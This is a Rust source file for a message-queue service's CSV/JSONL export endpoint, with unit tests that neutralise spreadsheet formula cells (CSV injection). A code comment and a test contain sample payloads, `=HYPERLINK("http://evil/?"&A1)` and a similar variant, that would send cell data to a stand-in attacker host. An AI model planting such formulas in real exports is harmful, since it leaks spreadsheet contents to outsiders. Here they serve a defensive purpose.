//! `GET /v1/messages/export`: every message matching the search filters, streamed as
//! CSV or JSON lines.

use super::search::{filter_of, query, SearchQuery};
use crate::api::limits::{fitting, message_bound_bytes};
use crate::api::{ApiError, AppState, ErrorBody};
use axum::body::{Body, Bytes};
use axum::extract::rejection::QueryRejection;
use axum::extract::{Query, State};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use redrive_core::{Message, Timestamp};

/// Rows fetched per store call while streaming an export (fewer when `max_response_bytes`
/// would not hold that many of the largest possible messages).
const EXPORT_CHUNK: u32 = 500;

const CSV_COLUMNS: &str = "id,queue,state,priority,attempts,key,idempotency_key,created_at,updated_at,due_at,finished_at,dead_reason,error_class,last_error,headers,payload\n";

/// First characters that make a spreadsheet read a cell as a formula (`=`, `+`, `-`, `@`,
/// and tab / carriage return, which some strip before looking). Error texts come from third
/// parties, so a cell such as `=HYPERLINK("http://evil/?"&A1)` must not run (issue 5,
/// defect 11, OWASP "CSV injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Write one CSV cell: a cell that would start a formula gets a leading `'` (shown as text
/// by spreadsheets, and visible: a reader sees the cell was neutralised); then RFC 4180 quoting.
fn csv_field(out: &mut String, v: &str) {
    let neutral;
    let v = if v.starts_with(FORMULA_STARTS) {
        neutral = format!("'{v}");
        neutral.as_str()
    } else {
        v
    };
    if v.contains([',', '"', '\n', '\r']) {
        out.push('"');
        out.push_str(&v.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(v);
    }
}

fn csv_row(m: &Message) -> String {
    let ts = |t: Option<Timestamp>| t.map(|t| t.to_rfc3339()).unwrap_or_default();
    let fields = [
        m.id.to_string(),
        m.queue.clone(),
        m.state.as_str().to_owned(),
        m.priority.to_string(),
        m.attempts.to_string(),
        m.key.clone().unwrap_or_default(),
        m.idempotency_key.clone().unwrap_or_default(),
        m.created_at.to_rfc3339(),
        m.updated_at.to_rfc3339(),
        ts(m.due_at),
        ts(m.finished_at),
        m.dead_reason
            .map(|r| r.as_str().to_owned())
            .unwrap_or_default(),
        m.last_error
            .as_ref()
            .map(|e| e.class.as_str().to_owned())
            .unwrap_or_default(),
        m.last_error
            .as_ref()
            .and_then(|e| e.message.clone())
            .unwrap_or_default(),
        if m.headers.is_empty() {
            String::new()
        } else {
            serde_json::to_string(&m.headers).unwrap_or_default()
        },
        serde_json::to_string(&m.payload).unwrap_or_default(),
    ];
    let mut out = String::new();
    for (i, f) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        csv_field(&mut out, f);
    }
    out.push('\n');
    out
}

/// Export every message matching the filters, streamed (CSV or JSON lines).
#[utoipa::path(get, path = "/v1/messages/export", tag = "messages", params(SearchQuery),
    responses((status = 200, description = "The whole result set, streamed", content_type = "text/csv"),
        (status = 400, description = "Bad filter", body = ErrorBody)))]
pub async fn export(
    State(s): State<AppState>,
    q: Result<Query<SearchQuery>, QueryRejection>,
) -> Result<Response, ApiError> {
    let q = query(q)?;
    if q.limit.is_some() {
        return Err(ApiError::bad_request(
            "invalid_query",
            "limit: only for /v1/messages (an export has no pages)",
        ));
    }
    let filter = filter_of(&q, s.engine.clock().now())?;
    let csv = match q.format.as_deref().unwrap_or("csv") {
        "csv" => true,
        "jsonl" => false,
        other => {
            return Err(ApiError::bad_request(
                "invalid_query",
                format!("format: {other:?} is not csv or jsonl"),
            ))
        }
    };
    let store = s.engine.store().clone();
    // At most one answer's worth of rows in memory at a time (see `limits`).
    let rows_per_chunk = (EXPORT_CHUNK as usize)
        .min(fitting(
            s.config.max_response_bytes,
            message_bound_bytes(&s.config),
        ))
        .max(1) as u32;
    struct Cursor {
        next: Option<String>,
        first: bool,
        done: bool,
    }
    let start = Cursor {
        next: q.cursor.clone(),
        first: true,
        done: false,
    };
    let stream = futures_util::stream::unfold(start, move |mut c| {
        let store = store.clone();
        let filter = filter.clone();
        async move {
            if c.done {
                return None;
            }
            let mut chunk = String::new();
            if c.first && csv {
                chunk.push_str(CSV_COLUMNS);
            }
            c.first = false;
            match store.search(filter, rows_per_chunk, c.next.take()).await {
                Ok(page) => {
                    for m in &page.messages {
                        if csv {
                            chunk.push_str(&csv_row(m));
                        } else {
                            chunk.push_str(&serde_json::to_string(m).unwrap_or_default());
                            chunk.push('\n');
                        }
                    }
                    c.next = page.next_cursor;
                    c.done = c.next.is_none();
                    Some((Ok::<Bytes, std::io::Error>(Bytes::from(chunk)), c))
                }
                Err(e) => {
                    tracing::error!(error = %e, "export failed mid-stream");
                    c.done = true;
                    Some((Err(std::io::Error::other("export failed")), c))
                }
            }
        }
    });
    let (ctype, ext) = if csv {
        ("text/csv; charset=utf-8", "csv")
    } else {
        ("application/x-ndjson", "jsonl")
    };
    Ok((
        [
            (header::CONTENT_TYPE, ctype.to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"redrive-export.{ext}\""),
            ),
        ],
        Body::from_stream(stream),
    )
        .into_response())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_when_needed() {
        let mut s = String::new();
        csv_field(&mut s, "a,b \"c\"");
        assert_eq!(s, "\"a,b \"\"c\"\"\"");
        let mut s = String::new();
        csv_field(&mut s, "plain");
        assert_eq!(s, "plain");
    }

    #[test]
    fn csv_neutralises_formula_cells() {
        for (cell, want) in [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            (
                "=HYPERLINK(\"http://evil\",\"x\")",
                "\"'=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\"",
            ),
            ("a=1", "a=1"),
        ] {
            let mut s = String::new();
            csv_field(&mut s, cell);
            assert_eq!(s, want, "{cell:?}");
        }
    }
}
